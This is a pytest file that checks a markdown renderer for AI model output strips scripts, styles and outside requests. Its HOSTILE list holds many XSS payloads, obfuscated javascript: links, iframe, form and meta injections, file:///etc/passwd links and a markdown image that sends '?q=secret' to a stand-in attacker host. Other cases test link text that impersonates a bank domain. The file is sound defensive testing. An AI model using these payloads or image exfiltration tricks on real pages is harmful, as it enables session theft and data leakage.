"""A model's text is hostile: whatever it holds, the page gets no script, no style and no request to anybody."""

import pytest

from assistants.rendering import markdown
from tests.assistants.hostile.page import Page

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.test/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='https://evil.test'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href='https://evil.test/'>",
    "<form action='https://evil.test'><input name=password></form>",
    "<body onload=alert(1)>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video src=https://evil.test/v autoplay></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><html><body>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](feed:javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.test/pixel.gif?q=secret)",
    "![x](http://evil.test/a.png \"t\" onerror=alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](//evil.test/a.png)",
    "![x](file:///etc/passwd)",
    "![\"><script>alert(1)</script>](https://evil.test/a.png)",
    "![x](https://evil.test/\"onclick=\"alert(1))",
    "[![x](https://evil.test/a.png)](javascript:alert(1))",
    "[x](https://ok.test \"\\\"><script>alert(1)</script>\")",
    "[x](https://ok.test/\"onmouseover=\"alert(1))",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "```python\n'</code></pre><script>alert(1)</script>'\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| a |\n|:--\" onclick=alert(1) |\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=\"https://ok.test\" onclick=\"alert(1)\" style=\"color:red\">x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_harmless(text):
    for shown in (text, f"Before {text} after", f"1. {text}\n2. x", text + "\n\n" + text):
        html = markdown.render(shown)
        assert Page(html).wrong == [], html


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>", "<p style='x'>x</p>", "<p onclick='x'>x</p>", "<img src='https://evil.test'>",
        "<a href='javascript:x'>x</a>", "<a href=' java\tscript:x'>x</a>", "<a href='data:x'>x</a>", "<!-- x -->",
        "<button type='button'>x</button>", "<p class='x\" onclick=\"y'>x</p>", "<a href='https://a.test'>x</a>",
        "<a href='//evil.test/x' rel='noopener noreferrer nofollow' target='_blank'>x</a>",
    ],
)  # fmt: skip
def test_check_itself_finds_what_is_unsafe(html):
    """The control: the same reading of a page that was not sanitised finds something."""
    assert Page(html).wrong != []


def test_remote_image_becomes_a_link_that_says_where_it_leads():
    page = Page(markdown.render("![A chart](https://images.test/chart.png?id=7)"))
    assert page.links == ["https://images.test/chart.png?id=7"]
    assert page.text.strip() == "A chart: load image from images.test"
    assert "img" not in page.tags


def test_image_without_a_host_is_only_its_label():
    for source in ("data:image/png;base64,AAAA", "/etc/passwd", "//evil.test/x.png", "https://"):
        page = Page(markdown.render(f"![A chart]({source})"))
        assert (page.links, page.tags) == ([], ["p", "em"])


def test_image_within_a_link_is_its_description():
    page = Page(markdown.render("[![A chart](https://images.test/chart.png)](https://docs.test/)"))
    assert (page.links, page.tags) == (["https://docs.test/"], ["p", "a", "em"])


def test_image_is_its_description_where_none_is_offered():
    page = Page(markdown.render("![A chart](https://images.test/chart.png)", offers_images=False))
    assert (page.links, page.tags, page.text.strip()) == ([], ["p", "em"], "A chart")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[https://bank.example/pay](https://evil.test/x)", "https://bank.example/pay (evil.test)"),
        ("[**bank.example**](https://evil.test/x)", "bank.example (evil.test)"),
        ("[bank.example](https://bank.example@evil.test/)", "bank.example (evil.test)"),
        ("[//bank.example](http://bank.example.evil.test)", "//bank.example (bank.example.evil.test)"),
        ("[www.bank.example](https://bank.example/x)", "www.bank.example"),
        ("[version 1.2](https://docs.test/x)", "version 1.2"),
        ("[](https://evil.test/x)", "evil.test"),
        ("[\u200b](/w/acme/)", "\u200b/w/acme/"),
    ],
)
def test_link_that_calls_itself_another_address_says_where_it_leads(text, shown):
    assert Page(markdown.render(text)).text.strip() == shown


@pytest.mark.parametrize(
    "href", ["ftp://a.test", "//a.test/x", "tel:+1", "data:image/png;base64,AA", "http://[", "x-y:z"]
)
def test_link_to_anything_else_is_its_words(href):
    page = Page(markdown.render(f"a [*x*]({href}) b"))
    assert (page.links, page.tags, page.text.strip()) == ([], ["p", "em"], "a x b")


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a $x_1 *y* z_2$ b", '<p>a <code class="formula">x_1 *y* z_2</code> b</p>\n'),
        (r"\(a < b\) c", '<p><code class="formula">a &lt; b</code> c</p>\n'),
        ("a $$x$$ b", '<p>a <code class="formula">x</code> b</p>\n'),
        ("$$\na\n\nb\n$$\nc", '<pre class="formula" tabindex="0"><code>a\n\nb</code></pre>\n<p>c</p>\n'),
        (r"\[ x \]", '<pre class="formula" tabindex="0"><code> x </code></pre>\n'),
        ("It costs $5 or $6, not $$7.", "<p>It costs $5 or $6, not $$7.</p>\n"),
        (r"\$a$ and $ b $", "<p>$a$ and $ b $</p>\n"),
        ("`$a$`", "<p><code>$a$</code></p>\n"),
        ("$$\nno end", "<p>$$<br>\nno end</p>\n"),
        (
            "- $$\n  a\n  $$\n- b",
            '<ul>\n<li>\n<pre class="formula" tabindex="0"><code>a</code></pre>\n</li>\n<li>b</li>\n</ul>\n',
        ),
    ],
)  # fmt: skip
def test_formula_is_shown_as_it_was_written(text, html):
    assert markdown.render(text) == html


def test_links_open_apart_and_tell_nothing():
    html = markdown.render("[docs](https://docs.test/a?b=1&c=2 'Title')")
    assert 'href="https://docs.test/a?b=1&amp;c=2"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'title="Title"' in html


@pytest.mark.parametrize("href", ["https://a.test", "http://a.test", "mailto:a@b.test", "/w/acme/", "#part"])
def test_ordinary_links_stay(href):
    assert Page(markdown.render(f"[x]({href})")).links == [href]


def test_code_is_coloured_by_its_language():
    html = markdown.render("```python\ndef f(): return 1 < 2\n```")
    assert 'data-language="python"' in html
    assert '<span class="k">def</span>' in html
    assert Page(html).text.strip() == "def f(): return 1 < 2"


@pytest.mark.parametrize("info", ["", "no-such-language", "python" * 50])
def test_code_of_an_unknown_language_is_shown_as_it_is(info):
    html = markdown.render(f"```{info}\na < b & c\n```")
    assert "a &lt; b &amp; c" in html
    assert 'data-language=""' in html


def test_very_long_code_is_not_coloured():
    html = markdown.render("```python\n" + "x = 1\n" * 10_000 + "```")
    assert "<span" not in html


def test_table_is_aligned_by_attribute_not_by_style():
    html = markdown.render("| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 | 3 |")
    assert '<th align="left">' in html
    assert '<td align="right">' in html
    assert '<td align="center">' in html
    assert "style" not in html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** and _it_", "<p><strong>bold</strong> and <em>it</em></p>\n"),
        ("~~gone~~", "<p><s>gone</s></p>\n"),
        ("a\nb", "<p>a<br>\nb</p>\n"),
        ("3. x", '<ol start="3">\n<li>x</li>\n</ol>\n'),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>\n"),
        ("", ""),
    ],
)
def test_ordinary_markdown(text, html):
    assert markdown.render(text) == html


def test_deep_nesting_ends():
    for text in (
        "> " * 5000 + "x",
        "- " * 2000 + "x",
        "[" * 20_000,
        "*" * 20_000 + "x",
        "![" * 5000 + "](" * 5000,
        "[a](//b) " * 2000,
        "[" + "a." * 10_000 + "](https://c.test)",
        "\\[ x\n" * 2000 + "\\] y",
    ):
        assert isinstance(markdown.render(text), str)
